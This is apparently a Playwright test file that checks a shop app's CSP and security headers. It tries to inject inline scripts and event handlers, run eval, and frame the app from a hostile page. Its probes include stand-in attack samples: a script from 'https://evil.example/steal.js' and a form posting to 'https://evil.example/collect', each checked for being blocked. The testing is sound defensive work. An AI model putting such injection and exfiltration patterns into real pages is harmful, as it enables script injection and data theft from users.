// The browser-side defences of headless web mode: the Content-Security-Policy (header, and a meta
// tag without frame-ancestors), no inline scripts, no eval, no posting forms elsewhere, no framing; and, since a plain
// browser page cannot stop window.open (Electron's setWindowOpenHandler does that in the desktop
// app), no external links or new-window targets anywhere in the UI.
//
// page.evaluate itself is exempt from the CSP's eval ban (DevTools' Runtime.evaluate allows it),
// so every probe below runs its code later, from a task the page itself schedules.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { CONTENT_SECURITY_POLICY, META_CONTENT_SECURITY_POLICY } from '../../shared/csp';
import { createOwner, expect, OWNER, saveScreenshot, signInUi, test } from './fixtures';

// This project's Node tsconfig has no DOM types: the few browser globals the page functions use.
interface ViolationEvent {
  effectiveDirective: string;
  blockedURI: string;
}
interface PageElement {
  tagName: string;
  outerHTML: string;
  getAttribute(name: string): string | null;
}
declare const document: {
  addEventListener(type: 'securitypolicyviolation', listener: (event: ViolationEvent) => void): void;
  removeEventListener(type: 'securitypolicyviolation', listener: (event: ViolationEvent) => void): void;
  querySelectorAll(selectors: string): Iterable<PageElement>;
};
declare const location: { href: string; origin: string };
declare const window: { __evilRan?: boolean };

/** Runs `probe` in a page task (not inside page.evaluate) and collects CSP violations meanwhile. */
async function inPageTask(page: Page, probe: string): Promise<{ result: unknown; violations: string[] }> {
  return page.evaluate(async (source) => {
    const violations: string[] = [];
    const listener = (event: ViolationEvent) => violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
    document.addEventListener('securitypolicyviolation', listener);
    // The probe is built with the Function constructor here, where DevTools allows it; it runs later.
    const run = new Function(source) as () => unknown;
    const result = await new Promise((resolve) => setTimeout(() => resolve(run()), 0));
    await new Promise((resolve) => setTimeout(resolve, 200));
    document.removeEventListener('securitypolicyviolation', listener);
    return { result, violations };
  }, probe);
}

test('the page is served with the CSP (header and meta tag) and security headers', async ({ page, shop }, testInfo) => {
  const consoleLines: string[] = [];
  page.on('console', (m) => consoleLines.push(`${m.type()}: ${m.text()}`));
  const response = await page.goto(shop.url);
  expect(response?.status()).toBe(200);
  const headers = response?.headers() ?? {};
  expect(headers['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
  expect(headers['x-frame-options']).toBe('DENY');
  expect(headers['x-content-type-options']).toBe('nosniff');
  // The meta tag repeats the policy but frame-ancestors, which only works (and is only allowed) as a header.
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute('content', META_CONTENT_SECURITY_POLICY);
  await expect(page.getByTestId('setup-form')).toBeVisible();
  expect(
    consoleLines.filter((line) => /content security policy|frame-ancestors/i.test(line)),
    'CSP messages on a plain page load',
  ).toEqual([]);

  // The hash router's pages are all this one document: /index.html answers the same.
  const index = await page.request.get(`${shop.url}/index.html`);
  expect(index.headers()['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
  expect(index.headers()['x-frame-options']).toBe('DENY');
  await expect(page.getByTestId('setup-form')).toBeVisible();
  await saveScreenshot(page, testInfo, 'served-page');
});

test('the CSP stops inline scripts, eval, new Function and forms posting elsewhere', async ({ page, shop }, testInfo) => {
  await page.goto(shop.url);
  await expect(page.getByTestId('setup-form')).toBeVisible();

  // An inline <script> injected into the page does not run.
  const inline = await inPageTask(
    page,
    `const s = document.createElement('script');
     s.textContent = 'window.__inlineRan = true';
     document.body.appendChild(s);
     return window.__inlineRan === true;`,
  );
  expect(inline.result, 'the injected inline script ran').toBe(false);
  expect(inline.violations).toContain('script-src-elem inline');

  // An inline event handler does not run either.
  const handler = await inPageTask(
    page,
    `const img = document.createElement('img');
     img.setAttribute('onerror', 'window.__handlerRan = true');
     img.src = 'data:,not-an-image';
     document.body.appendChild(img);
     return new Promise((r) => setTimeout(() => r(window.__handlerRan === true), 100));`,
  );
  expect(handler.result, 'the injected inline event handler ran').toBe(false);
  expect(handler.violations).toContain('script-src-attr inline');

  // eval and the Function constructor are refused.
  const evaluation = await inPageTask(
    page,
    `const tries = {};
     try { tries.eval = eval('6 * 7'); } catch (e) { tries.eval = e.name; }
     try { tries.fn = new Function('return 6 * 7')(); } catch (e) { tries.fn = e.name; }
     return tries;`,
  );
  expect(evaluation.result).toEqual({ eval: 'EvalError', fn: 'EvalError' });
  expect(evaluation.violations).toContain('script-src eval');

  // A script from another origin is refused: the request never leaves the browser (were it
  // sent, the route below would answer it with a script that runs).
  const reached: string[] = [];
  const blocked: string[] = [];
  await page.context().route('https://evil.example/**', (route) => {
    reached.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: 'window.__evilRan = true' });
  });
  page.on('requestfailed', (r) => blocked.push(`${r.url()} ${r.failure()?.errorText ?? ''}`));
  const foreign = await inPageTask(
    page,
    `const s = document.createElement('script');
     s.src = 'https://evil.example/steal.js';
     document.body.appendChild(s);
     return true;`,
  );
  expect(foreign.violations).toContain('script-src-elem https://evil.example/steal.js');
  expect(blocked).toContain('https://evil.example/steal.js csp');
  expect(reached, 'the script request was never sent').toEqual([]);
  expect(await page.evaluate(() => window.__evilRan === true), 'the foreign script ran').toBe(false);

  // The app itself still renders and works under its CSP.
  await expect(page.getByTestId('setup-form')).toBeVisible();
  await saveScreenshot(page, testInfo, 'csp-probes');

  // form-action 'none': a form posting elsewhere does not leave the page (had it navigated, the
  // probe's page would be gone before it answers). Last, because Playwright then waits forever
  // for the navigation that never happened.
  const form = await inPageTask(
    page,
    `const f = document.createElement('form');
     f.method = 'post';
     f.action = 'https://evil.example/collect';
     document.body.appendChild(f);
     f.submit();
     return new Promise((r) => setTimeout(() => r({ href: location.href, app: document.querySelector('[data-testid="setup-form"]') !== null }), 300));`,
  );
  expect(form.violations).toContain('form-action https://evil.example/collect');
  expect(form.result).toEqual({ href: `${shop.url}/`, app: true });
  expect(reached, 'no request reached evil.example').toEqual([]);
  await saveScreenshot(page, testInfo, 'csp-after-form-probe');
});

test('another site cannot frame the app', async ({ page, shop }, testInfo) => {
  // A hostile page on another origin of this machine (a plain HTTP server of the test) frames the
  // app, and, as a control, a response of the same server that carries no anti-framing headers.
  const hostile = createServer((_req, res) => {
    res.setHeader('Content-Type', 'text/html');
    res.end(`<h1>Win a prize</h1><iframe id="victim" src="${shop.url}/"></iframe><iframe id="control" src="${shop.api}/health"></iframe>`);
  });
  await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
  try {
    const { port } = hostile.address() as AddressInfo;
    const refused: string[] = [];
    const consoleLines: string[] = [];
    page.on('requestfailed', (r) => refused.push(`${r.url()} ${r.failure()?.errorText ?? ''}`));
    page.on('console', (m) => consoleLines.push(m.text()));
    await page.goto(`http://127.0.0.1:${port}/`);

    // The control frame loads: framing across these origins works in principle...
    await expect.poll(() => page.frames().map((f) => f.url()), { timeout: 5_000 }).toContain(`${shop.api}/health`);
    // ...but the app's page is refused by its headers and never rendered in the frame.
    await expect.poll(() => refused, { timeout: 5_000 }).toContain(`${shop.url}/ net::ERR_BLOCKED_BY_RESPONSE`);
    expect(page.frames().map((f) => f.url())).not.toContain(`${shop.url}/`);
    await expect(page.frameLocator('#victim').getByTestId('setup-form')).toHaveCount(0);
    expect(consoleLines.join('\n')).toContain("frame-ancestors 'none'");
    await saveScreenshot(page, testInfo, 'framing-refused');
  } finally {
    await new Promise((resolve) => hostile.close(resolve));
  }
});

test('the UI renders no external links or new-window targets (web mode cannot veto window.open)', async ({
  page,
  shop,
  request,
}, testInfo) => {
  await createOwner(request, shop);

  /** Every link or form target in the document that could leave the app or open a window. */
  const escapes = () =>
    page.evaluate(() => {
      const found: string[] = [];
      for (const el of document.querySelectorAll('a[href], area[href], form[action], [target], iframe, object, embed, base')) {
        const href = el.getAttribute('href') ?? el.getAttribute('action') ?? el.getAttribute('src') ?? el.getAttribute('data');
        const external = href !== null && new URL(href, location.href).origin !== location.origin;
        const target = el.getAttribute('target');
        const tag = el.tagName.toLowerCase();
        if (external || (target && target !== '_self') || ['iframe', 'object', 'embed', 'base'].includes(tag))
          found.push(el.outerHTML.slice(0, 200));
      }
      return found;
    });
  const popups: string[] = [];
  page.context().on('page', (p) => popups.push(p.url()));

  await page.goto(shop.url);
  await expect(page.getByTestId('login-form')).toBeVisible();
  expect(await escapes(), 'Sign in').toEqual([]);

  await signInUi(page, OWNER.username, OWNER.password);
  await expect(page.getByTestId('app-shell')).toBeVisible();
  await expect(page.getByTestId('profile-page')).toBeVisible();
  expect(await escapes(), 'My profile').toEqual([]);

  await page.getByTestId('nav-roles').click();
  await expect(page.getByTestId('role-card-cashier')).toBeVisible();
  expect(await escapes(), 'Role policies').toEqual([]);

  await page.getByTestId('user-menu').click();
  await expect(page.getByTestId('sign-out')).toBeVisible();
  expect(await escapes(), 'user menu').toEqual([]);
  await page.keyboard.press('Escape');

  // Links the app does render are hash routes of this same page.
  const hrefs = await page.locator('a[href]').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
  expect(hrefs.length).toBeGreaterThan(0);
  for (const href of hrefs) expect(href).toMatch(/^#\//);
  expect(popups, 'nothing the app did opened a window').toEqual([]);
  await saveScreenshot(page, testInfo, 'no-external-links');
});
